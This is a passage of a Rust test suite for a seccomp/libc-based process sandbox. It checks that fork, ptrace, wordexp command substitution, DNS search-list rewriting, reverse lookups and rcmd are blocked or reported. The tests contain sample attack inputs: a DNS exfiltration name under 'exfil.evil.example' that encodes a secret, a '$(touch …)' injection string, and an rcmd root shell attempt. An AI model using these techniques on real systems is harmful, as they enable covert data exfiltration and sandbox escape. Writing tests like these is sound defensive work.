            std::ptr::null_mut(),
        )
    };
    assert_eq!((pid, errno()), (-1, libc::EPERM), "clone(SIGCHLD)");
    // daemon() would leave this process as the child: the parent _exits. Run it in a fork…
    // which is refused too, so daemon is called here: refused, it returns -1 and we go on.
    // SAFETY: daemon(1, 1): no chdir, no close; refused before any fork.
    let r = unsafe { daemon(1, 1) };
    assert_eq!((r, errno()), (-1, libc::EPERM), "daemon");
    // The same through libc's syscall(): clone without CLONE_THREAD, fork, clone3.
    // SAFETY: process-creating syscalls whose child (if any) only calls _exit.
    unsafe {
        let mut args = [0u64; 11];
        args[4] = libc::SIGCHLD as u64; // exit_signal
        #[cfg(target_arch = "x86_64")]
        let fork_nr = libc::SYS_fork;
        #[cfg(not(target_arch = "x86_64"))]
        let fork_nr = libc::SYS_clone;
        for (what, nr, a0, a1) in [
            ("clone", libc::SYS_clone, libc::SIGCHLD as u64, 0u64),
            ("fork", fork_nr, libc::SIGCHLD as u64, 0),
            ("clone3", libc::SYS_clone3, args.as_mut_ptr() as u64, 88),
        ] {
            let r = libc::syscall(nr, a0, a1, 0, 0, 0);
            if r == 0 {
                libc::_exit(42);
            }
            let e = errno();
            // Seccomp alone: the filter answers clone3 with ENOSYS (glibc falls back to clone,
            // which it refuses).
            let enosys_ok = what == "clone3" && !cfg!(feature = "libc-layer");
            assert!(
                r == -1 && (e == libc::EPERM || (enosys_ok && e == libc::ENOSYS)),
                "syscall({what}): {r} errno {e}"
            );
        }
    }
    let words = CString::new(format!("$(touch {})", marker.display())).unwrap();
    let mut we = [0usize; 3];
    // SAFETY: wordexp with a valid string and wordexp_t (3 words on LP64).
    let r = unsafe { wordexp(words.as_ptr(), &mut we, 0) };
    if r == 0 {
        // SAFETY: the wordexp_t filled above.
        unsafe { wordfree(&mut we) };
    }
    assert_ne!(r, 0, "wordexp ran a command substitution");
    assert!(!marker.exists(), "wordexp's shell ran");
    // No child of ours exists.
    // SAFETY: waitpid with WNOHANG.
    let w = unsafe { libc::waitpid(-1, std::ptr::null_mut(), libc::WNOHANG) };
    assert_eq!((w, errno()), (-1, libc::ECHILD), "a child was created");
}
both!(
    r4_internal_process_creation,
    super::r4_internal_process_creation
);

/// `ptrace` of a same-uid process reads its memory: refused as `process_vm_readv` is.
fn r4_ptrace_other_process() {
    let sib = sibling();
    let pid = sib.0;
    let s = shield(|b| b);
    // SAFETY: ptrace(PTRACE_SEIZE) of our child with no options.
    let r = unsafe { libc::ptrace(libc::PTRACE_SEIZE, pid, 0, 0) };
    let e = errno();
    if r == 0 {
        // SAFETY: read a word of the child's memory, to show what the attach gives.
        let w = unsafe { libc::ptrace(libc::PTRACE_PEEKDATA, pid, SECRET.as_ptr(), 0) };
        panic!("ptrace attached to another process (read {w:#x})");
    }
    assert_eq!(e, libc::EPERM, "ptrace(PTRACE_SEIZE)");
    // SAFETY: ptrace(PTRACE_SEIZE) through libc's syscall().
    let r = unsafe { libc::syscall(libc::SYS_ptrace, libc::PTRACE_SEIZE, pid, 0, 0) };
    assert_eq!(
        (r, errno()),
        (-1, libc::EPERM),
        "syscall(SYS_ptrace, PTRACE_SEIZE)"
    );
    drop(sib);
    // The libc layer decides it (and reports it as a read of the process's memory); the
    // filter alone refuses every ptrace in the kernel, without an event.
    if cfg!(feature = "libc-layer") {
        assert!(
            any_event(&events(&s), PolicyKind::ReadHandler, Action::Blocked),
            "ptrace is reported"
        );
    }
}
both!(r4_ptrace_other_process, super::r4_ptrace_other_process);

/// Alert mode: the same calls behave exactly as without a shield, and each violation is
/// reported (kind 11's rule for the round-4 hooks).
fn r4_alert_mode_unchanged() {
    let rip = per_ic("127.0.0.207", "127.0.0.208", "127.0.0.209");
    let aip = per_ic("127.0.0.210", "127.0.0.211", "127.0.0.212");
    let _resolver = bind53(rip);
    let attacker = bind53(aip);
    let (task, _) = dirs();
    let s = shield(|b| {
        b.resolv_conf(format!("nameserver {rip}\n"))
            .mode(Mode::Alert)
    });
    res_point_at(ip4(aip));
    let mut answer = [0u8; 512];
    let name = c"c2VjcmV0LWtleQ.exfil.evil.example";
    // SAFETY: res_query with a valid name and answer buffer (no answer comes: one 1 s try).
    let r = unsafe { res_query(name.as_ptr(), 1, 1, answer.as_mut_ptr(), 512) };
    assert_eq!(r, -1, "nobody answers");
    assert!(
        !nothing_arrived(&attacker),
        "the query reaches the rewritten name server"
    );
    // SAFETY: _Fork; the child only calls _exit.
    let pid = unsafe { _Fork() };
    if pid == 0 {
        // SAFETY: leave the child at once.
        unsafe { libc::_exit(3) };
    }
    assert!(pid > 0, "_Fork: {}", errno());
    let mut status = 0;
    // SAFETY: reaping our child.
    unsafe { libc::waitpid(pid, &mut status, 0) };
    assert_eq!(libc::WEXITSTATUS(status), 3);
    // The trap interceptor kills exec'd children by design (children need notify).
    if ic() != Mechanism::SeccompTrap {
        let marker = task.join("wordexp-ran");
        let words = CString::new(format!("$(touch {})", marker.display())).unwrap();
        let mut we = [0usize; 3];
        // SAFETY: wordexp with a valid string and wordexp_t; freed after.
        let r = unsafe { wordexp(words.as_ptr(), &mut we, 0) };
        assert_eq!(r, 0, "wordexp");
        // SAFETY: the wordexp_t filled above.
        unsafe { wordfree(&mut we) };
        assert!(marker.exists(), "wordexp's shell ran");
    }
    let evs = events(&s);
    assert!(
        evs.iter()
            .any(|e| e.policy == PolicyKind::OutboundConnectivity
                && e.action == Action::Alerted
                && matches!(&e.details, Details::Connect { port: 53, .. })),
        "{evs:?}"
    );
    assert!(evs.iter().all(|e| e.action != Action::Blocked), "{evs:?}");
}
both!(r4_alert_mode_unchanged, super::r4_alert_mode_unchanged);

/// The search list turns the query for an allowed name into a query for a name of the
/// function's choosing: `_res.dnsrch` rewritten in memory (with `ndots` 5, searched first), or
/// `LOCALDOMAIN` + `RES_OPTIONS=ndots:5` set with `setenv` before a thread's first lookup.
/// Refused while the search list differs from libc's own configuration; no query leaves.
fn r4_search_list_rewritten() {
    let rip = per_ic("127.0.0.213", "127.0.0.214", "127.0.0.215");
    let resolver = bind53(rip);
    let s = shield(|b| b.resolv_conf(format!("nameserver {rip}\n")));
    let allowed = c"sqs.us-east-1.amazonaws.com";
    let lookup = || {
        let mut res: *mut libc::addrinfo = std::ptr::null_mut();
        // SAFETY: an all-zero addrinfo is valid hints (family and type set below).
        let mut hints: libc::addrinfo = unsafe { std::mem::zeroed() };
        hints.ai_family = libc::AF_INET;
        hints.ai_socktype = libc::SOCK_STREAM;
        // SAFETY: getaddrinfo with valid strings, hints and out-pointer; the list is freed.
        unsafe {
            let r = libc::getaddrinfo(allowed.as_ptr(), std::ptr::null(), &hints, &mut res);
            if r == 0 {
                libc::freeaddrinfo(res);
            }
            r
        }
    };
    // In memory: the thread's _res searches the function's domain first.
    res_point_at(ip4(rip));
    // SAFETY: writes inside the thread's `struct __res_state` (568 bytes): defdname (256
    // bytes at 128), dnsrch[0..2] (at 72), the ndots bits (at 392).
    unsafe {
        let st = __res_state();
        let dom = b"c2VjcmV0LWtleQ.exfil.evil.example\0";
        std::ptr::copy_nonoverlapping(dom.as_ptr(), st.add(128), dom.len());
        std::ptr::write_unaligned(st.add(72).cast::<usize>(), st.add(128) as usize);
        std::ptr::write_unaligned(st.add(80).cast::<usize>(), 0);
        let w = std::ptr::read_unaligned(st.add(392).cast::<u32>());
        std::ptr::write_unaligned(st.add(392).cast::<u32>(), (w & !0xf) | 5);
    }
    let r = lookup();
    if cfg!(feature = "libc-layer") {
        assert_ne!(r, 0, "getaddrinfo through a rewritten search list");
        assert!(
            nothing_arrived(&resolver),
            "a query left through the rewritten search list"
        );
    }
    // Through the environment, before a new thread's first lookup.
    // SAFETY: setenv with valid strings (the other threads of this case do not read the
    // environment meanwhile).
    unsafe {
        libc::setenv(
            c"LOCALDOMAIN".as_ptr(),
            c"c2VjcmV0LWtleQ.exfil.evil.example".as_ptr(),
            1,
        );
        libc::setenv(
            c"RES_OPTIONS".as_ptr(),
            c"ndots:5 attempts:1 timeout:1".as_ptr(),
            1,
        );
    }
    let rip4 = ip4(rip);
    let r = std::thread::spawn(move || {
        // SAFETY: res_init on this thread's fresh state (it reads LOCALDOMAIN and
        // RES_OPTIONS), then only the name server is pointed at the test's resolver.
        unsafe {
            assert_eq!(res_init(), 0);
            let st = __res_state();
            std::ptr::write_unaligned(st.add(16).cast::<i32>(), 1);
            let sa = sockaddr_in(rip4, 53, libc::AF_INET as u16);
            std::ptr::write_unaligned(st.add(20).cast::<libc::sockaddr_in>(), sa);
        }
        lookup()
    })
    .join()
    .unwrap();
    if cfg!(feature = "libc-layer") {
        assert_ne!(r, 0, "getaddrinfo with LOCALDOMAIN set by the function");
        assert!(
            nothing_arrived(&resolver),
            "a query left through LOCALDOMAIN"
        );
        let evs = events(&s);
        assert!(evs.iter().any(|e| e.action == Action::Blocked
            && matches!(&e.details, Details::Bypass { what } if what == "DNS query for sqs.us-east-1.amazonaws.com through a search list changed after install")), "{evs:?}");
    }
}
both!(r4_search_list_rewritten, super::r4_search_list_rewritten);

/// A private mount namespace whose `/etc/resolv.conf` names only `ip` (one 1 s try), so that
/// glibc's own resolver threads query the test's loopback resolver. Root (as CI runs).
fn private_resolv_conf(ip: &str) {
    use nix::mount::{mount, MsFlags};
    let dir = std::env::temp_dir().join(format!("fnshield-resolv-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let conf = dir.join("resolv.conf");
    std::fs::write(
        &conf,
        format!("nameserver {ip}\noptions timeout:1 attempts:1\n"),
    )
    .unwrap();
    common::private_mount_namespace();
    mount(
        Some(conf.as_path()),
        "/etc/resolv.conf",
        None::<&str>,
        MsFlags::MS_BIND,
        None::<&str>,
    )
    .expect("bind-mount over /etc/resolv.conf");
}

#[repr(C)]
struct Gaicb {
    ar_name: *const libc::c_char,
    ar_service: *const libc::c_char,
    ar_request: *const libc::addrinfo,
    ar_result: *mut libc::addrinfo,
    ret: i32,
    reserved: [i32; 5],
}

extern "C" {
    fn getaddrinfo_a(mode: i32, list: *mut *mut Gaicb, n: i32, sevp: *mut libc::c_void) -> i32;
    fn gai_error(req: *mut Gaicb) -> i32;
    fn gethostbyaddr(addr: *const libc::c_void, len: u32, ty: i32) -> *mut libc::hostent;
}

/// `getaddrinfo_a` (glibc's helper thread) and reverse lookups (`getnameinfo`,
/// `gethostbyaddr`: a PTR query names an address the function chose) under the name policy:
/// refused before any query; an allowed name still goes out.
fn r4_async_and_reverse_lookups() {
    let rip = per_ic("127.0.0.216", "127.0.0.217", "127.0.0.218");
    let resolver = bind53(rip);
    private_resolv_conf(rip);
    let s = shield(|b| b.resolv_conf(format!("nameserver {rip}\n")));
    let layer = cfg!(feature = "libc-layer");
    let submit = |name: &std::ffi::CStr| {
        let mut req = Gaicb {
            ar_name: name.as_ptr(),
            ar_service: std::ptr::null(),
            ar_request: std::ptr::null(),
            ar_result: std::ptr::null_mut(),
            ret: 0,
            reserved: [0; 5],
        };
        let mut list = [&mut req as *mut Gaicb];
        // SAFETY: GAI_WAIT (0) with one valid request that lives across the call.
        let r = unsafe { getaddrinfo_a(0, list.as_mut_ptr(), 1, std::ptr::null_mut()) };
        assert_eq!(r, 0, "getaddrinfo_a");
        // SAFETY: the request completed (GAI_WAIT); its result list is freed.
        unsafe {
            if !req.ar_result.is_null() {
                libc::freeaddrinfo(req.ar_result);
            }
            gai_error(&mut req)
        }
    };
    // Seccomp alone under the trap: glibc's helper thread blocks every signal, so its
    // trapped connect kills the process (the README's routes table); the layer looks the
    // requests up itself (GAI_WAIT).
    let gai = layer || ic() != Mechanism::SeccompTrap;
    let e = if gai {
        submit(c"c2VjcmV0LWtleQ.exfil.evil.example")
    } else {
        libc::EAI_NONAME
    };
    if layer {
        assert_eq!(
            e,
            libc::EAI_NONAME,
            "getaddrinfo_a of a name that is not allowed"
        );
        assert!(nothing_arrived(&resolver), "getaddrinfo_a's query left");
    }
    // Reverse lookups of an address the function chose.
    let mut host = [0 as libc::c_char; 128];
    // SAFETY: an all-zero sockaddr_in6 is valid; family and address set below.
    let mut sa6: libc::sockaddr_in6 = unsafe { std::mem::zeroed() };
    sa6.sin6_family = libc::AF_INET6 as u16;
    sa6.sin6_addr.s6_addr = "2001:db8::c0de:5ec7"
        .parse::<std::net::Ipv6Addr>()
        .unwrap()
        .octets();
    // SAFETY: getnameinfo with a valid sockaddr and host buffer, no service.
    let r = unsafe {
        libc::getnameinfo(
            (&sa6 as *const libc::sockaddr_in6).cast(),
            std::mem::size_of_val(&sa6) as u32,
            host.as_mut_ptr(),
            host.len() as u32,
            std::ptr::null_mut(),
            0,
            0,
        )
    };
    // SAFETY: getnameinfo NUL-terminated `host` on success.
    let shown = unsafe { std::ffi::CStr::from_ptr(host.as_ptr()) }
        .to_string_lossy()
        .into_owned();
    if layer {
        assert_eq!(
            (r, shown.as_str()),
            (0, "2001:db8::c0de:5ec7"),
            "getnameinfo: the numeric form"
        );
        assert!(nothing_arrived(&resolver), "getnameinfo's PTR query left");
        let v4 = [192u8, 0, 2, 77];
        // SAFETY: gethostbyaddr with a 4-byte address.
        let h = unsafe { gethostbyaddr(v4.as_ptr().cast(), 4, libc::AF_INET) };
        assert!(h.is_null(), "gethostbyaddr");
        assert!(nothing_arrived(&resolver), "gethostbyaddr's PTR query left");
        let evs = events(&s);
        for what in [
            "DNS query for c2vjcmv0lwtleq.exfil.evil.example",
            "reverse DNS query for 2001:db8::c0de:5ec7",
            "reverse DNS query for 192.0.2.77",
        ] {
            assert!(
                evs.iter().any(|e| e.action == Action::Blocked
                    && matches!(&e.details, Details::Bypass { what: w } if w == what)),
                "{what}: {evs:?}"
            );
        }
    }
    // An allowed name still goes out (nobody answers: one 1 s try).
    if gai {
        resolver.set_nonblocking(false).unwrap();
        let e = submit(c"sqs.us-east-1.amazonaws.com");
        assert_ne!(e, libc::EAI_NONAME, "an allowed name is looked up");
        assert!(
            !nothing_arrived(&resolver),
            "the allowed name's query arrives"
        );
    }
}
both!(
    r4_async_and_reverse_lookups,
    super::r4_async_and_reverse_lookups
);

/// `rcmd` connects to a remote shell through glibc's internal `connect` (here to a listener on
/// 127.0.0.2): refused before any connection under outbound block, and reported.
fn r4_remote_shell() {
    let target = TcpListener::bind("127.0.0.2:0").unwrap();
    let port = target.local_addr().unwrap().port();
    let s = shield(|b| b);
    let mut host = CString::new("127.0.0.2").unwrap().into_raw();
    // SAFETY: rcmd with a valid host pointer, user names and command; no stderr channel.
    let r = unsafe {
        rcmd(
            &mut host,
            port.to_be(),
            c"root".as_ptr(),
            c"root".as_ptr(),
            c"id".as_ptr(),
            std::ptr::null_mut(),
        )
    };
    let e = errno();
    target.set_nonblocking(true).unwrap();
    let accepted = target.accept().is_ok();
    assert!(!accepted, "rcmd reached 127.0.0.2");
    assert_eq!(r, -1, "rcmd");
    if cfg!(feature = "libc-layer") {
        assert_eq!(e, libc::EPERM, "rcmd");
        assert!(
            any_event(
                &events(&s),
                PolicyKind::OutboundConnectivity,
                Action::Blocked
            ),
            "rcmd is reported"
        );
    }
}
both!(r4_remote_shell, super::r4_remote_shell);
